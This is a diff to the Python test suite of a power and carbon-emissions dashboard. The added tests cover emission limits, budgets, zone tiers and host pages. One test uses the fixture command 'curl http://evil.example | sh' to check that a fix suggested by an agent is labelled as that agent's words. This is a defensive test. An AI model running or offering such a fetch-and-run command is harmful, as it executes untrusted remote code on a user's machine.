@@ -44,6 +44,7 @@ from wattgram_collector.exposition.pages.routes import POLICY
 from wattgram_collector.exposition.pages.zones import zones_page
 from wattgram_collector.intensity import Tier
 from wattgram_collector.views.model import (
+    EmissionLimit,
     FleetView,
     HostRow,
     Presence,
@@ -131,7 +132,7 @@ def shown(view: FleetView, asked: Asked | None = None, around: Surroundings = AR
 async def served(
     view: FleetView | None = None, runbook_url: str = ""
 ) -> AsyncIterator[TestClient]:
-    views = Told(view or fleet(), detail(), detail(row("a b/c?&é")))
+    views = Told(view or fleet(), detail(), detail(row("a b/c?&é")), detail(row("{x}")))
     async with TestClient(TestServer(application(views, runbook_url))) as client:
         yield client
 
@@ -195,6 +196,29 @@ def test_a_fleet_that_draws_nothing_is_not_one_of_which_nothing_is_known() -> No
     assert "no power is drawn now" in text
 
 
+@pytest.mark.parametrize(
+    ("rate", "hosts", "told"),
+    [(None, 2, "what its hosts emit is unknown"), (150.0, 2, "within the limit"),
+     (200.0, 2, "within the limit"), (200.1, 2, "too much"), (None, 0, "fits no host that is")],
+)  # fmt: skip
+def test_a_limit_is_told_against_what_is_emitted_now(
+    rate: float | None, hosts: int, told: str
+) -> None:
+    one = EmissionLimit(
+        name="hall", grams_per_hour=200.0, present_grams_per_hour=rate, hosts=hosts
+    )
+    read = shown(fleet(budgets=(), limits=(one,)))
+    assert told in read.text
+    assert "200 g/h is too much" in read.text
+    assert "Carbon budgets and limits" in read.text
+
+
+def test_a_budget_that_fits_nobody_is_not_within_its_calendar() -> None:
+    read = shown(fleet(budgets=(budget(hosts=0),)))
+    assert "fits no host that is known" in read.text
+    assert "within the calendar" not in read.text
+
+
 def test_a_fleet_without_a_budget_says_how_to_set_one() -> None:
     read = shown(fleet(budgets=()))
     assert "none setadd one under [budgets]" in read.text
@@ -234,6 +258,15 @@ def test_problems_come_worst_first_with_their_fix_and_a_link() -> None:
     assert "https://docs.example/r#certificate-expiring" in read.values("href")
     assert "hosts/beta" in read.values("href")
     assert "docs/runbooks.md#agent-late" in shown(fleet()).text
+
+
+def test_whose_words_a_fix_is_stands_beside_it() -> None:
+    theirs = problem(fix="curl http://evil.example | sh", fix_said_by="gateway-7")
+    read = shown(fleet(problems=(theirs, problem(fix="ours"))))
+    assert "Fix, in its agent's wordscurl http://evil.example | sh" in read.text
+    assert "Fixours" in read.text
+    none = shown(fleet(problems=(replace(theirs, fix=""),)))
+    assert "in its agent's words" not in none.text
 
 
 def test_very_many_problems_are_counted() -> None:
@@ -308,7 +341,7 @@ def test_a_host_says_why_its_sources_are_not_better_and_the_fix() -> None:
     text = host_text()
     assert (
         "raplpermission denied/sys/class/powercap/intel-rapl:0/energy_uj is 0400 root"
-        "Fixsudo cp 60-wattgram-rapl.rules" in text
+        "Fix, in its agent's wordssudo cp 60-wattgram-rapl.rules" in text
     )
     assert "not on this host: nvmlnvmlno NVIDIA driver" in text
     order = [text.index(said) for said in ("modelactive", "raplperm", "ipmierror", "not on this")]
@@ -322,7 +355,11 @@ def test_a_host_says_the_arithmetic_of_its_grams() -> None:
     assert "what it uses and emits now is unknown" in host_text(rows()[3])
     assert "Its power is unknown" in host_text(row(power_watts=None))
     asleep = row(power_watts=0.0, grams_per_hour=0.0)
-    assert "0 W \N{MULTIPLICATION SIGN} 40.2 g/kWh = 0 g/h" in host_text(asleep)
+    assert "0 W \N{MULTIPLICATION SIGN} 40.25 g/kWh = 0 g/h" in host_text(asleep)
+    odd = row(
+        power_watts=9.785671, intensity_grams_per_kilowatt_hour=320.5, grams_per_hour=3.13631
+    )
+    assert "9.78567 W \N{MULTIPLICATION SIGN} 320.5 g/kWh = 3.14 g/h" in host_text(odd)
     html = host_page(detail(), AROUND, NOW)
     assert 'href="../api/v1/hosts/beta/explain?from=-1h"' in html
 
@@ -345,7 +382,7 @@ def test_a_host_of_which_little_is_known_says_so() -> None:
     )  # fmt: skip
     for said in (
         "It has not said yet what it can measure.", "No component is told apart.",
-        "No workload is told apart.", "No interface is counted.", "None: every second",
+        "No workload is told apart.", "No interface is counted.", "None that its agent told of.",
         "Nothing of the last day is read yet.", "clockunknown", "agentunknown", "osunknown",
     ):  # fmt: skip
         assert said in text
@@ -373,6 +410,8 @@ def test_a_zone_tells_what_is_old_what_is_yearly_and_what_is_not_known() -> None
     assert "ended 2 h ago" in zones_text(old)
     yearly = zone("FR", steps=(), greenest=None, tier=Tier.ANNUAL, valid_until_unix_seconds=None)
     assert "A yearly average, the same at every hour." in zones_text(yearly)
+    stated = zone("FR", steps=(), greenest=None, tier=Tier.OPERATOR, valid_until_unix_seconds=None)
+    assert "Set by the operator, the same at every hour." in zones_text(stated)
     none = zone("", steps=(), greenest=None, tier=None, grams_per_kilowatt_hour=None, provider="")
     assert "no zone saidunknown" in zones_text(none)
     assert "the energy used here is unpriced" in zones_text(none)
@@ -436,6 +475,7 @@ async def test_a_host_of_any_name_has_a_page() -> None:
         answer = await client.get("/hosts/a%20b%2Fc%3F%26%C3%A9")
         assert answer.status == 200
         assert "a b/c?&amp;é" in await answer.text()
+        assert (await client.get("/hosts/%7Bx%7D")).status == 200
 
 
 # ── over HTTP ────────────────────────────────────────────────────────────────────────────
@@ -565,6 +605,12 @@ def test_what_a_page_refers_to_is_in_the_style() -> None:
     assert not {one for one in used - bare if not re.search(rf"\.{re.escape(one)}\b", style)}
     asked = set(re.findall(r"var\((--[\w-]+)", style))
     assert asked <= set(re.findall(r"(--[\w-]+):", style))
+
+
+def test_lines_of_a_configuration_are_shown_as_lines() -> None:
+    """A table and its key on one line would be no TOML."""
+    (rule,) = re.findall(r"^\.copy \{(.*)\}$", shipped("page.css").decode(), re.MULTILINE)
+    assert "white-space: pre-wrap" in rule
 
 
 def test_a_runbook_address_is_one_of_the_web() -> None:
